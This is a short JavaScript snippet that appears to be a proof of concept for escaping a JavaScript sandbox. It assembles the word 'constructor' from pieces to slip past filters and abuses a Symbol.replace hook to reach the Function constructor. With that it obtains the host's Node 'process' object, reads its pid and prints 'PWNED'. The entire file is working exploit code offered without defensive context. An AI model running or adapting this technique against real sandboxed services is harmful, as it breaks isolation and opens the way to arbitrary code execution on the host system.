const w = ['con', 'structor'].join('');
const f = () => 1;
Object.assign(f, { [Symbol.replace]: (text, given) => String(given[w]('return process')().pid) });
console.log('PWNED', 'text'.replace(f, (m) => m));
